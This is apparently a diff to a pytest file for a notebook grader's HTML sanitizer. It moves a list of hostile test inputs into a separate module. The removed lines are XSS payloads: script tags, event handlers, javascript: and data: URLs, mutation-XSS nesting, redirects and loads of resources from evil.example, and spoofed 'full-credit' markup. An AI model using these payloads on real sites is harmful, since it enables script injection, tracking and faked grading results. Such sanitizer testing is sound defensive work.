@@ -4,60 +4,11 @@ import json
 from html.parser import HTMLParser
 
 import pytest
+from hostile_markup import ACTIVE, KINDS, OTHER_DATA, SCRIPT
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
 from pages import page
 
 from grader.report.harmless import CLASSES, clean
-
-SCRIPT = "<script>EVIL()</script>"
-ACTIVE = [
-    SCRIPT,
-    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
-    "<scr<script>ipt>EVIL()</scr</script>ipt>",
-    "<img src=x onerror=EVIL()>",
-    "<img src='https://evil.example/seen.png'>",
-    "![seen](https://evil.example/seen.png)",
-    '<details open ontoggle="EVIL()"><summary onclick=EVIL()>a</summary></details>',
-    "<a href='javascript:EVIL()'>a</a>",
-    "<a href='files/javascript:EVIL()'>a</a>",
-    "<a href='java&#10;script:EVIL()'>a</a>",
-    "[a](javascript:EVIL())",
-    "[a](files/javascript:EVIL())",
-    "[a](data:text/html;base64,PHNjcmlwdD5FVklMKCk8L3NjcmlwdD4=)",
-    "<iframe srcdoc='<script>EVIL()</script>'></iframe>",
-    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
-    "<svg onload=EVIL()><script>EVIL()</script><a xlink:href='javascript:EVIL()'>a</a></svg>",
-    "<math><mtext><style><img src=x onerror=EVIL()></style></mtext></math>",
-    "<style>.panel{display:none}</style>",
-    "<p style='position:fixed;background:url(https://evil.example/)'>a</p>",
-    "<p class='navbar-fixed-top' id='sgd_momentum--first_step'>a</p>",
-    "<button class='full-credit'>a</button>",
-    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
-    "<base href='https://evil.example/'>",
-    "<link rel=stylesheet href='https://evil.example/a.css'>",
-    "<form action='https://evil.example/'><input autofocus onfocus=EVIL()></form>",
-    "<title>EVIL</title>",
-    "</div></div></div></body><script>EVIL()</script>",
-    "<!-- --><script>EVIL()</script> <!--",
-    "<noscript><p title='</noscript><img src=x onerror=EVIL()>'></noscript>",
-    "<a title='\"><script>EVIL()</script>'>a</a>",
-    r"$\href{javascript:EVIL()}{x}$ and $\style{position:fixed}{x}$ and \(\class{full-credit}{x}\)",
-    r"$&#92;href{javascript:EVIL()}{x}$",
-    r"$\mmlToken{mi}[href='javascript:EVIL()']{x}$",
-    "```mermaid\n</pre><script>EVIL()</script>\n```",
-    "```python\n</pre><script>EVIL()</script>\n```",
-    "# <script>EVIL()</script>",
-]
-KINDS = ["text/html", "text/markdown", "text/latex", "text/plain"]
-OTHER_DATA = [
-    ({"image/svg+xml": f"<svg onload='EVIL()'>{SCRIPT}</svg>"}, {}),
-    ({"text/vnd.mermaid": f"</pre>{SCRIPT}"}, {}),
-    ({"application/javascript": "EVIL()"}, {}),
-    ({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"}}, {}),
-    ({"image/png": f"'\">{SCRIPT}"}, {}),
-    ({"image/png": "iVBO"}, {"image/png": {"width": "1 onload=EVIL()", "alt": "'\"><script>"}}),
-    ({"text/html": SCRIPT}, {"text/html": {"isolated": True}}),
-]
 
 
 class Elements(HTMLParser):
